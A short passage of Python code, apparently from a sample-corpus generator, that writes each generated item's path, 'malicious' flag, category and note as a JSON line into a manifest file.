            written.append((path, item))
            record = {"path": str(path.relative_to(folder)), "malicious": item.malicious,
                      "category": item.category, "note": item.note}  # fmt: skip
            manifest.write(json.dumps(record, ensure_ascii=False) + "\n")
    return written
